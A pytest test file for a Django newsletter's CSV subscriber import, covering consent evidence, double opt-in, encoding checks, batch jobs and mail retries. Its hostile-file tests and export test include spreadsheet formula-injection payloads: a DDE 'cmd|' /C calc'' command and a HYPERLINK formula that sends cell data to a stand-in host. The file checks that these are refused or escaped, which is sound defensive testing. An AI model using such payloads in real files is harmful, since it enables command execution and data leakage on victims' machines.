"""Import from CSV: proof rows confirmed with `imported` evidence, the rest double opt-in,
suppressed and known addresses never re-added, and hostile files refused whole."""

import csv
import io
import math
from smtplib import SMTPServerDisconnected

import pytest
from django.contrib.auth.models import Group, User
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from newsletter.models import (
    ConsentEvent,
    ConsentEventKind,
    RevocationChannel,
    Subscription,
    SubscriptionImport,
    SubscriptionState,
)
from newsletter.services.consent import (
    IMPORT_MAX_ROWS,
    import_confirmations_send,
    importing,
    subscription_import,
    subscription_import_queue,
    subscription_import_run,
    subscription_suppress,
)
from tests.newsletter.factories import SubscriptionFactory

pytestmark = pytest.mark.django_db
URL = "/admin/newsletter/subscription/import/"
HEADER = "email,language,consent_at,ip,source,text_version\n"


@pytest.fixture
def manager_client(client):
    user = User.objects.create_user("verwaltung", password="x", is_staff=True)
    user.groups.add(Group.objects.get(name="Newsletter-Verwaltung"))
    client.force_login(user)
    return client


def upload(client, newsletter, content: bytes | str, name="liste.csv"):
    data = content.encode() if isinstance(content, str) else content
    return client.post(
        URL,
        {"newsletter": newsletter.pk, "file": SimpleUploadedFile(name, data, "text/csv")},
    )


def test_proof_rows_are_confirmed_with_imported_evidence_and_the_rest_pending(
    manager_client, newsletter, django_capture_on_commit_callbacks
):
    known = SubscriptionFactory(newsletter=newsletter, email="bekannt@example.org")
    blocked = SubscriptionFactory(newsletter=newsletter, email="gesperrt@example.org")
    subscription_suppress(
        subscription_id=blocked.id, reason="hard_bounce", channel=RevocationChannel.WEBHOOK
    )
    content = (
        HEADER
        + "mit-beleg@example.org,de,2025-03-01T09:30:00+01:00,198.51.100.4,Gewinnspiel 2025,1\n"
        + "ohne-beleg@example.org,en,,,,\n"
        + "BEKANNT@example.org,de,,,,\n"
        + "Gesperrt@Example.org,de,,,,\n"
        + ",,,,,\n"
    )
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(manager_client, newsletter, content)
    assert response.status_code == 200
    report = response.context["report"]
    assert (report.confirmed, report.pending, report.existing, report.suppressed) == (1, 1, 1, 1)
    html = response.content.decode()
    assert "1 Adresse mit Nachweis als bestätigt übernommen" in html

    imported = Subscription.objects.get(email="mit-beleg@example.org")
    assert imported.state == SubscriptionState.CONFIRMED
    assert imported.confirmed_at.isoformat() == "2025-03-01T08:30:00+00:00"
    event = ConsentEvent.objects.get(subscription=imported)
    assert event.kind == ConsentEventKind.IMPORTED
    assert (event.ip, event.form) == ("198.51.100.4", "Gewinnspiel 2025")
    assert event.consent_text is not None and event.consent_text.version == 1
    assert event.text_sha256 == event.consent_text.sha256
    # Who imported is the event's actor; file and line are structured data, and the chained
    # data never repeats the IP (erasure can blank the ip field, not the data).
    assert event.actor.get_username() == "verwaltung"
    assert event.data["file"] == "liste.csv" and event.data["line"] == 2
    assert "ip" not in event.data and event.note == ""

    pending = Subscription.objects.get(email="ohne-beleg@example.org")
    assert pending.state == SubscriptionState.PENDING and pending.language == "en"
    assert [m.to for m in mail.outbox] == [["ohne-beleg@example.org"]]
    # The suppressed and the known address are untouched; no second subscription.
    assert Subscription.objects.filter(newsletter=newsletter).count() == 4
    assert Subscription.objects.get(pk=blocked.pk).state == SubscriptionState.SUPPRESSED
    assert Subscription.objects.get(pk=known.pk).state == SubscriptionState.CONFIRMED


HOSTILE = [
    pytest.param(
        (HEADER + "a@example.org,de,,,,\nkeine-adresse,de,,,,\n").encode(),
        "Bitte geben Sie eine gültige E-Mail-Adresse ein.",
        id="malformed-address",
    ),
    pytest.param(
        (HEADER + "a@example.org,de,,,,\nA@example.org,de,,,,\n").encode(),
        "Adresse doppelt (schon in Zeile 2).",
        id="duplicate",
    ),
    pytest.param(
        "email,source\na@example.org,web\nmüller@example.org,Köln\n".encode("latin-1"),
        "nicht UTF-8-kodiert (Zeile 3, Byte 33; vermutlich Latin-1 oder Windows-1252)",
        id="latin-1",
    ),
    pytest.param(
        "email\nmüller@example.org\n".encode("cp1252"),
        "nicht UTF-8-kodiert (Zeile 2",
        id="windows-1252",
    ),
    pytest.param(
        # A byte-order mark, then an odd number of bytes: no UTF-16 at all.
        b"\xff\xfe" + "email\nm@example.org\n".encode("utf-16-le") + b"x",
        "gibt sich als UTF-16 aus",
        id="utf-16-lying-bom",
    ),
    pytest.param(
        (
            HEADER
            + "a@example.org,de,2025-03-01T09:30:00,198.51.100.4,"
            + '"=HYPERLINK(""http://x.example/?""&A2;""Beleg"")",1\n'
        ).encode(),
        "Spalte „source“ beginnt wie eine Tabellenformel",
        id="formula-in-source",
    ),
    pytest.param(
        (HEADER + "@SUM(1+1)*cmd|' /C calc'!A0,de,,,,\n").encode(),
        "Spalte „email“ beginnt wie eine Tabellenformel",
        id="formula-as-address",
    ),
    pytest.param(
        (HEADER + "a@example.org,de,2025-03-01T09:30:00,198.51.100.4,,\n").encode(),
        "Nachweis unvollständig, es fehlt: source, text_version.",
        id="partial-proof",
    ),
    pytest.param(
        (HEADER + "a@example.org,de,gestern,198.51.100.4,web,1\n").encode(),
        "ist kein Zeitpunkt",
        id="bad-timestamp",
    ),
    pytest.param(
        (HEADER + "a@example.org,de,2025-03-01T09:30:00,=1+1,web,1\n").encode(),
        "Spalte „ip“ beginnt wie eine Tabellenformel",
        id="formula-as-ip",
    ),
    pytest.param(
        b"adresse;name\na@example.org;A\n",
        "mindestens „email“",
        id="no-email-column",
    ),
    pytest.param(b"\x89PNG\r\n\x1a\n\x00\x00", "keine Textdatei", id="binary"),
]


@pytest.mark.parametrize(("content", "message"), HOSTILE)
def test_hostile_files_import_nothing_and_say_why(manager_client, newsletter, content, message):
    response = upload(manager_client, newsletter, content)
    assert response.status_code == 400
    html = response.content.decode()
    assert message in html
    assert "Es wurde nichts übernommen" in html
    assert not Subscription.objects.exists()
    assert not ConsentEvent.objects.exists()


def test_utf_16_and_semicolons_from_a_german_spreadsheet_are_read(manager_client, newsletter):
    content = "email;language\r\nmueller@example.org;de\r\nsmith@example.org;en\r\n"
    response = upload(manager_client, newsletter, content.encode("utf-16"))
    assert response.status_code == 200, response.content.decode()
    assert response.context["report"].pending == 2
    assert set(Subscription.objects.values_list("email", "language")) == {
        ("mueller@example.org", "de"),
        ("smith@example.org", "en"),
    }


def test_the_request_path_still_refuses_a_file_above_its_limit(newsletter):
    content = "email\n" + "".join(f"x{i}@example.org\n" for i in range(IMPORT_MAX_ROWS + 1))
    report = subscription_import(
        newsletter=newsletter, file_name="gross.csv", data=content.encode(), actor=None
    )
    assert "mehr als 2000 Zeilen" in report.file_error
    assert not Subscription.objects.exists()


def test_a_large_file_becomes_a_job_and_a_bad_row_at_its_end_refuses_it_whole(
    manager_client, newsletter, django_capture_on_commit_callbacks
):
    # 100,000 rows (the job runs in this process here, eagerly; the worker test runs it in a
    # real worker). One duplicate near the end: nothing of the 99,999 good rows is written.
    rows = [f"leser{i}@example.org\n" for i in range(100_000)]
    rows[99_998] = "LESER5@example.org\n"
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(manager_client, newsletter, "email\n" + "".join(rows), name="gross.csv")
    assert response.status_code == 302
    job = SubscriptionImport.objects.get()
    assert response["Location"] == reverse(
        "admin:newsletter_subscription_import_job", args=[job.pk]
    )
    assert (job.state, job.lines, job.rows, job.error_count) == ("refused", 100_000, 100_000, 1)
    assert job.errors == [[100_000, "Adresse doppelt (schon in Zeile 7)."]]
    assert bytes(job.data) == b""  # the file is not kept once the job has ended
    assert not Subscription.objects.exists() and not ConsentEvent.objects.exists()
    page = manager_client.get(response["Location"]).content.decode()
    assert "„gross.csv“ wurde nicht importiert" in page and "Adresse doppelt" in page
    assert 'http-equiv="refresh"' not in page
    assert "gross.csv" in manager_client.get(URL).content.decode()


def test_a_job_is_run_once_however_often_its_message_arrives(newsletter):
    from django.contrib.auth.models import User

    from newsletter.services.consent import subscription_import_queue, subscription_import_run

    user = User.objects.create_user("importeur")
    content = "email\n" + "".join(f"j{i}@example.org\n" for i in range(3000))
    job = subscription_import_queue(
        newsletter=newsletter, file_name="j.csv", data=content.encode(), user=user
    )
    assert subscription_import_run(import_id=job.pk) == "imported"
    assert subscription_import_run(import_id=job.pk) is None
    job.refresh_from_db()
    assert (job.state, job.pending, job.attempts) == ("imported", 3000, 1)
    assert Subscription.objects.count() == 3000
    assert ConsentEvent.objects.filter(kind="requested").count() == 3000


def test_the_bulk_ledger_append_is_the_chain_event_by_event_appends_would_be(newsletter):
    from newsletter.services.ledger import chain_verify

    content = HEADER + "".join(
        f"v{i}@example.org,de,2025-03-01T09:30:00,198.51.100.{i % 200},web,1\n" for i in range(50)
    )
    report = subscription_import(
        newsletter=newsletter, file_name="v.csv", data=content.encode(), actor=None
    )
    assert report.confirmed == 50
    assert chain_verify().ok


def test_a_failure_midway_leaves_nothing_behind(newsletter, monkeypatch):
    from newsletter.services.consent import importing

    def failing(**kwargs):
        # The subscriptions are in by now; the ledger write fails.
        assert Subscription.objects.count() == 5
        raise RuntimeError("database gone")

    monkeypatch.setattr(importing, "chain_append_many", failing)
    content = HEADER + "".join(
        f"l{i}@example.org,de,2025-03-01T09:30:00,198.51.100.4,web,1\n" for i in range(5)
    )
    with pytest.raises(RuntimeError):
        subscription_import(
            newsletter=newsletter, file_name="x.csv", data=content.encode(), actor=None
        )
    assert not Subscription.objects.exists() and not ConsentEvent.objects.exists()


def test_export_escapes_formulas_and_names_consent_dates(manager_client, newsletter):
    SubscriptionFactory(newsletter=newsletter, email="=cmd|'/C calc'!A0@example.org")
    SubscriptionFactory(newsletter=newsletter, email="plain@example.org")
    SubscriptionFactory(
        newsletter=newsletter, email="offen@example.org", state="pending", confirmed_at=None
    )
    response = manager_client.post(
        reverse("admin:newsletter_subscription_changelist"),
        {
            "action": "export_confirmed_csv",
            "_selected_action": list(Subscription.objects.values_list("pk", flat=True)),
        },
    )
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == [
        "email",
        "newsletter",
        "language",
        "frequency",
        "requested_at",
        "confirmed_at",
    ]
    emails = sorted(r[0] for r in rows[1:])
    assert emails == ["'=cmd|'/C calc'!A0@example.org", "plain@example.org"]
    assert all(r[5].endswith(("+01:00", "+02:00")) for r in rows[1:])


def test_import_page_needs_its_own_permission(client, newsletter):
    viewer = User.objects.create_user("leser", password="x", is_staff=True)
    client.force_login(viewer)
    assert client.get(URL).status_code == 403


def test_import_form_without_a_file_says_so(manager_client, newsletter):
    response = manager_client.post(URL, {"newsletter": newsletter.pk})
    assert response.status_code == 400
    assert "Dieses Feld ist zwingend erforderlich." in response.content.decode()


def test_confirmation_mails_of_a_large_import_are_a_few_range_tasks_safe_to_repeat(
    newsletter, django_capture_on_commit_callbacks, monkeypatch
):
    """250 rows without proof (and 50 with), in ranges of 100, queue three messages, not 250;
    running them sends exactly one confirmation per pending row, each recorded as a single
    signup's is, and running them again sends nothing. (Ranges of 1,000 in production: the
    smaller range keeps the test's real mail rendering short.)"""
    monkeypatch.setattr(importing, "IMPORT_CONFIRMATION_CHUNK", 100)
    user = User.objects.create_user("importeur")
    rows = [
        f"p{i}@example.org,de,2025-03-01T09:30:00,198.51.100.4,web,1\n"
        if i % 6 == 0
        else f"p{i}@example.org,de,,,,\n"
        for i in range(300)
    ]
    # Another signup of the newsletter, pending, is no row of the import: not mailed by it.
    other = SubscriptionFactory(newsletter=newsletter, state=SubscriptionState.PENDING)
    job = subscription_import_queue(
        newsletter=newsletter, file_name="p.csv", data=(HEADER + "".join(rows)).encode(), user=user
    )
    with django_capture_on_commit_callbacks() as enqueued:
        assert subscription_import_run(import_id=job.pk) == "imported"
    job.refresh_from_db()
    assert (job.confirmed, job.pending) == (50, 250)
    assert len(enqueued) == math.ceil(250 / 100) == 3
    mail.outbox.clear()

    for send in enqueued:  # eagerly, in this process, as a worker would
        send()
    pending = Subscription.objects.filter(newsletter=newsletter, state=SubscriptionState.PENDING)
    assert sorted(m.to[0] for m in mail.outbox) == sorted(
        pending.exclude(pk=other.pk).values_list("email", flat=True)
    )
    assert len(mail.outbox) == 250
    sent = ConsentEvent.objects.filter(kind=ConsentEventKind.CONFIRMATION_SENT)
    assert sent.count() == 250 and not sent.filter(subscription=other).exists()
    assert set(pending.exclude(pk=other.pk).values_list("confirmation_sends", flat=True)) == {1}

    for send in enqueued:  # a message delivered twice
        send()
    assert len(mail.outbox) == 250 and sent.count() == 250


def test_a_confirmation_that_fails_does_not_hold_up_the_rest_of_its_range(newsletter, monkeypatch):
    content = "email\n" + "".join(f"r{i}@example.org\n" for i in range(5))
    subscription_import(newsletter=newsletter, file_name="r.csv", data=content.encode(), actor=None)
    ids = sorted(Subscription.objects.values_list("pk", flat=True))
    requested_at = Subscription.objects.get(pk=ids[0]).requested_at
    real_send = importing.subscription_confirmation_send

    def flaky(*, subscription_id):
        if subscription_id == ids[1]:
            raise SMTPServerDisconnected("relay gone")
        return real_send(subscription_id=subscription_id)

    monkeypatch.setattr(importing, "subscription_confirmation_send", flaky)
    range_of_import = {
        "newsletter_id": newsletter.pk,
        "requested_at": requested_at,
        "first_id": ids[0],
        "last_id": ids[-1],
    }
    with pytest.raises(SMTPServerDisconnected):
        import_confirmations_send(**range_of_import)
    assert len(mail.outbox) == 4  # the others went out; the task's retry picks up the one
    monkeypatch.setattr(importing, "subscription_confirmation_send", real_send)
    assert import_confirmations_send(**range_of_import) == 1
    assert len(mail.outbox) == 5
